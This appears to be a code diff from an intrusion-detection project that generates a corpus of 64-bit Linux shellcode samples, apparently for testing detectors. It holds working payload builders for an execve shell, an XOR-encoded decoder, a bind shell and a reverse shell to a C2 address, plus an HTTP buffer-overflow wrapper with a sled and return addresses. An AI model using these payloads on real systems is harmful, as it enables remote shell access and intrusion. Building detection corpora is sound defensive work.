@@ -1,0 +1,279 @@
+#include "gen/shellcode64.hpp"
+
+#include "gen/emitter.hpp"
+
+namespace senids::gen {
+
+using util::Bytes;
+
+namespace {
+
+/// 64-bit register numbers (4-bit, REX.B/R extends past 7).
+enum class R64 : std::uint8_t {
+  rax = 0, rcx, rdx, rbx, rsp, rbp, rsi, rdi,
+  r8, r9, r10, r11, r12, r13, r14, r15,
+};
+
+/// Thin long-mode layer over the 32-bit emitter: REX-prefixed forms the
+/// 64-bit corpus needs, with labels/fixups delegated to the inner Asm.
+/// Encodings that are identical in both modes (push imm, int, jcc, byte
+/// stores) are used straight off the inner assembler.
+struct Asm64 {
+  Asm a;
+
+  static std::uint8_t lo3(R64 r) { return static_cast<std::uint8_t>(r) & 7; }
+  static bool ext(R64 r) { return static_cast<std::uint8_t>(r) >= 8; }
+  void rex(bool w, R64 reg, R64 rm) {
+    a.raw8(static_cast<std::uint8_t>(0x40 | (w ? 8 : 0) | (ext(reg) ? 4 : 0) |
+                                     (ext(rm) ? 1 : 0)));
+  }
+
+  void mov_r64_imm64(R64 r, std::uint64_t v) {
+    a.raw8(static_cast<std::uint8_t>(0x48 | (ext(r) ? 1 : 0)));
+    a.raw8(static_cast<std::uint8_t>(0xB8 + lo3(r)));
+    for (int i = 0; i < 8; ++i) a.raw8(static_cast<std::uint8_t>(v >> (8 * i)));
+  }
+  void mov_r64_r64(R64 dst, R64 src) {
+    rex(true, src, dst);
+    a.raw8(0x89);
+    a.raw8(static_cast<std::uint8_t>(0xC0 | (lo3(src) << 3) | lo3(dst)));
+  }
+  /// mov qword [base+disp8], src (base must not be rsp/rbp/r12/r13).
+  void mov_mem64_r64(R64 base, std::int8_t disp, R64 src) {
+    rex(true, src, base);
+    a.raw8(0x89);
+    a.raw8(static_cast<std::uint8_t>(0x40 | (lo3(src) << 3) | lo3(base)));
+    a.raw8(static_cast<std::uint8_t>(disp));
+  }
+  void lea_r64(R64 dst, R64 base, std::int8_t disp) {
+    rex(true, dst, base);
+    a.raw8(0x8D);
+    a.raw8(static_cast<std::uint8_t>(0x40 | (lo3(dst) << 3) | lo3(base)));
+    a.raw8(static_cast<std::uint8_t>(disp));
+  }
+  void push_r64(R64 r) {
+    if (ext(r)) a.raw8(0x41);
+    a.raw8(static_cast<std::uint8_t>(0x50 + lo3(r)));
+  }
+  void pop_r64(R64 r) {
+    if (ext(r)) a.raw8(0x41);
+    a.raw8(static_cast<std::uint8_t>(0x58 + lo3(r)));
+  }
+  void inc_r64(R64 r) {
+    rex(true, R64::rax, r);
+    a.raw8(0xFF);
+    a.raw8(static_cast<std::uint8_t>(0xC0 | lo3(r)));
+  }
+  /// dec r32 — the 0x48+r short form is a REX byte in long mode, so the
+  /// FF /1 form is required.
+  void dec_r32_long(R64 r) {
+    if (ext(r)) a.raw8(0x41);
+    a.raw8(0xFF);
+    a.raw8(static_cast<std::uint8_t>(0xC8 | lo3(r)));
+  }
+  void syscall_() {
+    a.raw8(0x0F);
+    a.raw8(0x05);
+  }
+  /// mov rax, imm8 via push/pop: keeps the encoding NUL-free and makes
+  /// the number a forwarded stack constant.
+  void set_r64_imm8(R64 r, std::int8_t v) {
+    a.push_imm8(v);
+    pop_r64(r);
+  }
+};
+
+/// Shared tail: zero rdx (envp) then execve with the number in al over a
+/// zeroed rax. Expects rdi=path, rsi=argv, rax=0 already.
+void emit_syscall_execve(Asm64& x) {
+  x.a.xor_r32_r32(R32::edx, R32::edx);
+  x.a.mov_r8_imm8(R8::al, 59);
+  x.syscall_();
+}
+
+/// Body of the imm64-push execve, emitted inline so the network payloads
+/// can reuse it as their tail.
+void emit_execve_push64(Asm64& x) {
+  x.a.xor_r32_r32(R32::eax, R32::eax);  // rax = 0 (32-bit write zero-extends)
+  x.push_r64(R64::rax);                 // path terminator
+  x.mov_r64_imm64(R64::rbx, 0x68732f2f6e69622full);  // "/bin//sh"
+  x.push_r64(R64::rbx);
+  x.mov_r64_r64(R64::rdi, R64::rsp);    // rdi = path
+  x.push_r64(R64::rax);                 // argv[1] = NULL
+  x.push_r64(R64::rdi);                 // argv[0] = path
+  x.mov_r64_r64(R64::rsi, R64::rsp);    // rsi = argv
+  emit_syscall_execve(x);
+}
+
+/// Shared socket(AF_INET, SOCK_STREAM, 0); leaves the fd in rdi.
+void emit_socket64(Asm64& x) {
+  x.set_r64_imm8(R64::rdi, 2);          // AF_INET
+  x.set_r64_imm8(R64::rsi, 1);          // SOCK_STREAM
+  x.a.xor_r32_r32(R32::edx, R32::edx);
+  x.set_r64_imm8(R64::rax, 41);         // socket
+  x.syscall_();
+  x.mov_r64_r64(R64::rdi, R64::rax);    // fd
+}
+
+}  // namespace
+
+util::Bytes ExploitBuilder64::execve_stack() {
+  Asm64 x;
+  emit_execve_push64(x);
+  return x.a.finish();
+}
+
+util::Bytes ExploitBuilder64::execve_embedded() {
+  Asm64 x;
+  auto lmain = x.a.new_label();
+  auto lget = x.a.new_label();
+  x.a.jmp_short(lget);
+  x.a.bind(lmain);
+  x.pop_r64(R64::rdi);                        // rdi = &"/bin/sh"
+  x.a.xor_r32_r32(R32::eax, R32::eax);
+  x.a.mov_mem_r8(R32::edi, 7, R8::al);        // terminate the path
+  x.mov_mem64_r64(R64::rdi, 8, R64::rdi);     // argv[0] = path
+  x.mov_mem64_r64(R64::rdi, 16, R64::rax);    // argv[1] = NULL
+  x.lea_r64(R64::rsi, R64::rdi, 8);
+  emit_syscall_execve(x);
+  x.a.bind(lget);
+  x.a.call(lmain);
+  x.a.raw(util::as_bytes("/bin/shXAAAAAAAABBBBBBBB"));
+  return x.a.finish();
+}
+
+util::Bytes ExploitBuilder64::xor_decoder(std::uint8_t key) {
+  Bytes plain = execve_stack();
+  Bytes encoded = plain;
+  for (auto& b : encoded) b = static_cast<std::uint8_t>(b ^ key);
+
+  Asm64 x;
+  auto lmain = x.a.new_label();
+  auto lget = x.a.new_label();
+  auto lloop = x.a.new_label();
+  x.a.jmp_short(lget);
+  x.a.bind(lmain);
+  x.pop_r64(R64::rsi);
+  x.push_r64(R64::rsi);  // save the payload start: the final ret runs it
+  x.a.xor_r32_r32(R32::ecx, R32::ecx);
+  x.a.mov_r8_imm8(R8::cl, static_cast<std::uint8_t>(encoded.size()));
+  x.a.bind(lloop);
+  x.a.xor_mem8_imm8(R32::esi, key);  // xor byte [rsi], key
+  x.inc_r64(R64::rsi);
+  x.a.loop_(lloop);
+  x.a.ret();  // jump into the decoded payload
+  x.a.bind(lget);
+  x.a.call(lmain);
+  x.a.raw(encoded);
+  return x.a.finish();
+}
+
+util::Bytes ExploitBuilder64::port_bind(std::uint16_t port_be) {
+  Asm64 x;
+  emit_socket64(x);
+
+  // bind(fd, {AF_INET, port, INADDR_ANY}, 16)
+  x.a.xor_r32_r32(R32::eax, R32::eax);
+  x.push_r64(R64::rax);  // sin_zero + sin_addr = 0
+  x.a.push_imm32(0x00000002u |
+                 (static_cast<std::uint32_t>(port_be) << 16));  // family|port
+  x.mov_r64_r64(R64::rsi, R64::rsp);
+  x.set_r64_imm8(R64::rdx, 16);
+  x.set_r64_imm8(R64::rax, 49);  // bind
+  x.syscall_();
+
+  // listen(fd, 1)
+  x.set_r64_imm8(R64::rsi, 1);
+  x.set_r64_imm8(R64::rax, 50);  // listen
+  x.syscall_();
+
+  // accept(fd, 0, 0)
+  x.a.xor_r32_r32(R32::esi, R32::esi);
+  x.a.xor_r32_r32(R32::edx, R32::edx);
+  x.set_r64_imm8(R64::rax, 43);  // accept
+  x.syscall_();
+
+  emit_execve_push64(x);
+  return x.a.finish();
+}
+
+util::Bytes ExploitBuilder64::reverse_shell(std::uint32_t c2_ip_be,
+                                            std::uint16_t c2_port_be) {
+  Asm64 x;
+  emit_socket64(x);
+
+  // connect(fd, {AF_INET, port, ip}, 16). One qword holds the whole
+  // sockaddr prefix: family | port<<16 | addr<<32 (addr kept in network
+  // order, as the 32-bit generator does).
+  const std::uint32_t ip_le = ((c2_ip_be & 0xffu) << 24) |
+                              ((c2_ip_be & 0xff00u) << 8) |
+                              ((c2_ip_be >> 8) & 0xff00u) | (c2_ip_be >> 24);
+  x.mov_r64_imm64(R64::rbx,
+                  0x2ull | (static_cast<std::uint64_t>(c2_port_be) << 16) |
+                      (static_cast<std::uint64_t>(ip_le) << 32));
+  x.push_r64(R64::rbx);
+  x.mov_r64_r64(R64::rsi, R64::rsp);
+  x.set_r64_imm8(R64::rdx, 16);
+  x.set_r64_imm8(R64::rax, 42);  // connect
+  x.syscall_();
+
+  // dup2(fd, 2..0)
+  x.set_r64_imm8(R64::rsi, 2);
+  auto ldup = x.a.new_label();
+  x.a.bind(ldup);
+  x.set_r64_imm8(R64::rax, 33);  // dup2
+  x.syscall_();
+  x.dec_r32_long(R64::rsi);
+  x.a.jcc(0x9, ldup);  // jns: loop for 2,1,0
+
+  emit_execve_push64(x);
+  return x.a.finish();
+}
+
+std::vector<Shellcode64Sample> ExploitBuilder64::corpus() {
+  std::vector<Shellcode64Sample> out;
+  out.push_back({"execve64-imm64-push", execve_stack(), false});
+  out.push_back({"execve64-getpc-embedded", execve_embedded(), false});
+  out.push_back({"xor-decoder-64", xor_decoder(), false});
+  out.push_back({"bind-shell-64", port_bind(), true});
+  out.push_back({"reverse-shell-64", reverse_shell(), false});
+  return out;
+}
+
+util::Bytes ExploitBuilder64::wrap(util::ByteView shellcode, util::Prng& prng) {
+  // One-byte instructions that stay valid (and register-transparent) in
+  // long mode; the 32-bit sled pool's BCD bytes are invalid there.
+  static constexpr std::uint8_t kSled64Pool[] = {
+      0x90,  // nop
+      0xF8,  // clc
+      0xF9,  // stc
+      0xF5,  // cmc
+      0xFC,  // cld
+      0x98,  // cwde
+      0x99,  // cdq
+  };
+  const std::string preamble = "GET /vuln.cgi?arg=";
+  constexpr std::size_t kFillerLen = 96;
+  constexpr std::size_t kSledLen = 24;
+  constexpr std::size_t kRetCount = 8;
+  constexpr std::uint32_t kRetBase = 0xbffff000;
+
+  Bytes out;
+  out.reserve(preamble.size() + kFillerLen + kSledLen + shellcode.size() +
+              kRetCount * 4 + 16);
+  out.insert(out.end(), preamble.begin(), preamble.end());
+  out.insert(out.end(), kFillerLen, 'A');
+  for (std::size_t i = 0; i < kSledLen; ++i) {
+    out.push_back(kSled64Pool[prng.below(sizeof kSled64Pool)]);
+  }
+  out.insert(out.end(), shellcode.begin(), shellcode.end());
+  // Return-address region: only the least significant byte varies, so the
+  // address always lands inside the sled (Section 4.2's invariant).
+  for (std::size_t i = 0; i < kRetCount; ++i) {
+    util::put_u32le(out, kRetBase | static_cast<std::uint32_t>(prng.below(0x80)));
+  }
+  out.insert(out.end(), {'\r', '\n', '\r', '\n'});
+  return out;
+}
+
+}  // namespace senids::gen
